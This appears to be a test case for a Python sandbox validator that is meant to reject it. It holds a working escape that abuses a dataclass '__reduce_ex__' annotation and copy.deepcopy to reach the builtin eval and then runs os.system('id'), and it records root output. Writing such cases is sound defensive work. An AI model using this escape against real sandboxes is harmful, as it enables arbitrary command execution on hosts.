# expect: reject dunder
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# Mechanism: a bare dunder annotation in a dataclass deriving from another dataclass.
# Goal reached: eval as a value; ran a process (id).
# Output seen under python3 (3.11.7), in a throw-away temp dir:
#   <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import copy
import dataclasses
import typing


def red(proto):
    return (typing.List.copy_with, (("eval",),), {"_name": "__builtins__"})


@dataclasses.dataclass
class Base:
    size: int


# the annotation sits in a subclass's body, under a plain field
@dataclasses.dataclass
class K(Base):
    __reduce_ex__: typing.Any



ev = copy.deepcopy(copy.deepcopy(K(1, red)))
print(ev)
ev("__import__('os').system('id')")
